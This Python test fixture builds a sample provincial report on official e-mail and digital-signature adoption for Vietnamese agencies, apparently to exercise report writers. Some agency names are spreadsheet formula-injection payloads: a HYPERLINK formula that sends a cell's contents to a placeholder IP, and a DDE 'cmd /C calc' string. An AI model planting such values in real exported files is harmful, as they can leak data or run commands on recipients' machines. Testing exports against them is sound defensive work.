"""A report made by hand, for writers: every kind of column, chart and cell, and names that bite."""

from datetime import UTC, date, datetime

from monitor.measure.figures import Figure, Scope, State
from monitor.model import Language
from monitor.periods import Rules, parse
from monitor.report.model import (
    Cell,
    Chart,
    ChartKind,
    Column,
    FigureRow,
    Head,
    Heading,
    Paragraph,
    Report,
    Row,
    Series,
    Share,
    Standing,
    Table,
)

NAMES = (
    "Sở Y tế",
    "Ủy ban nhân dân xã Nuôi Dưỡng Tương Lai Thịnh Vượng và Phát triển Bền vững Miền núi phía Bắc",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"Sở Tài chính")',
    "+84 Trung tâm",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    'Sở <b>Nội vụ</b> & #import "x" $y$ *đậm* _nghiêng_ [ô] `lệnh` \\ ~ @ref <nhãn>',
)
"""What an agency may be called; the rest are plain."""

HEADINGS = (
    Heading("ordinal", "STT", Column.ORDINAL),
    Heading("agency", "Cơ quan, đơn vị", Column.WIDE),
    Heading("officials", "Tổng số CBCCVC", Column.COUNT, "Thư điện tử công vụ"),
    Heading("provisioned", "Đã cấp", Column.COUNT, "Thư điện tử công vụ"),
    Heading("provisioned_share", "Tỷ lệ (%)", Column.SHARE, "Thư điện tử công vụ"),
    Heading("documents", "VB đi", Column.COUNT, "Ký số"),
    Heading("signed", "Ký số đủ", Column.COUNT, "Ký số"),
    Heading("signed_share", "Tỷ lệ (%)", Column.SHARE, "Ký số"),
    Heading("signed_change", "Tăng, giảm (điểm %)", Column.POINTS, "Ký số"),
    Heading("since", "Từ ngày", Column.DATE),
    Heading("assessment", "Đánh giá", Column.TEXT),
    Heading("note", "Ghi chú", Column.WIDE),
)


def sample(agencies: int = 12, language: Language = Language.VI) -> Report:
    """A report of October 2026 with so many agencies; none gives empty tables."""
    names = [NAMES[n] if n < len(NAMES) else f"UBND xã Số {n}" for n in range(agencies)]
    return Report(
        head=_head(language),
        summary=(
            Paragraph("Tổng quan", ("Toàn tỉnh ký số 1.234/1.300 văn bản (94,9%).", "Dòng hai.")),
        ),
        tables=(_main(names), _empty()),
        method=(Paragraph("Thường xuyên là gì", ("Có hoạt động từ 10 ngày làm việc trở lên.",)),),
        figures=[_figure(n, name) for n, name in enumerate(names)],
        definitions={"document_signed": "1"},
    )


def _head(language: Language) -> Head:
    period = parse("2026-10", Rules())
    return Head(
        language=language, period=period, standing=Standing.CLOSED, version=1, closing_id=7,
        facts="ab" * 32, at=datetime(2026, 11, 6, 1, 30, tzinfo=UTC),
        title="BÁO CÁO TÌNH HÌNH SỬ DỤNG THƯ ĐIỆN TỬ CÔNG VỤ VÀ CHỮ KÝ SỐ",
        subject="Các cơ quan, đơn vị trên địa bàn tỉnh",
        span="Tháng 10 năm 2026 (từ ngày 01/10/2026 đến ngày 31/10/2026)", remark="",
        superior="SỞ KHOA HỌC VÀ CÔNG NGHỆ", issuer="TRUNG TÂM CÔNG NGHỆ THÔNG TIN",
        place="Hòa Bình", scope="province", code="province", name="Toàn tỉnh",
    )  # fmt: skip


def _share(n: int) -> Share:
    if n % 5 == 4:
        return Share(None, State.NO_DATA)
    if n % 5 == 3:
        return Share(0.5, State.INSUFFICIENT, 0.2, 0.8)
    return Share(n / (n + 1), State.OK, n / (n + 1), n / (n + 1))


def _row(n: int, name: str) -> Row:
    cells: tuple[Cell, ...] = (
        n + 1, name, 1000 + n, 990, Share(990 / (1000 + n)), n + 1, n, _share(n),
        None if n % 5 == 4 else 0.012 * (n - 3), date(2026, 10, 1 + n % 28),
        "Đạt" if n % 2 else "Chưa đạt", "=1+1" if n == 0 else "",
    )  # fmt: skip
    return Row(cells, code=f"xa-{n}")


def _main(names: list[str]) -> Table:
    total: tuple[Cell, ...] = (
        None, "Tổng cộng", 12345, 12000, Share(12000 / 12345), 1300, 1234, Share(1234 / 1300),
        -0.021, None, "", "",
    )  # fmt: skip
    labels = tuple(names)
    return Table(
        id="agencies", title="Kết quả của từng cơ quan, đơn vị", sheet="Kết quả",
        headings=HEADINGS, rows=[_row(n, name) for n, name in enumerate(names)],
        total=Row(total, emphasis=True), notes=("Số liệu chốt ngày 06/11/2026.",),
        charts=(
            Chart(
                "signed", ChartKind.BARS, "Tỷ lệ ký số đủ", labels,
                (Series("Ký số đủ", tuple(_share(n).ratio for n in range(len(names)))),),
                target=0.9,
            ),
            Chart(
                "trend", ChartKind.LINES, "Diễn biến", ("8/2026", "9/2026", "10/2026"),
                (Series("Ký số đủ", (0.8, None, 0.9), (0.7, None, 0.9), (0.9, None, 0.9)),),
            ),
        ),
        landscape=True,
    )  # fmt: skip


def _empty() -> Table:
    return Table(
        id="certificates", title="Chứng thư sắp hết hạn", sheet="Chứng thư", headings=HEADINGS[:3],
        rows=(), empty="Không có chứng thư nào sắp hết hạn.",
    )  # fmt: skip


def _figure(n: int, name: str) -> FigureRow:
    share = _share(n)
    figure = Figure(
        indicator="document_signed", scope=Scope.AGENCY, code=f"xa-{n}", channel="docsys",
        document_class="formal", window="period", first_day=date(2026, 10, 1),
        last_day=date(2026, 10, 31), numerator=n, denominator=n + 1, undecided=0,
        ratio=share.ratio, state=share.state, low=share.low, high=share.high, checked=n + 1,
    )  # fmt: skip
    return FigureRow("period", "", name, "commune", figure)
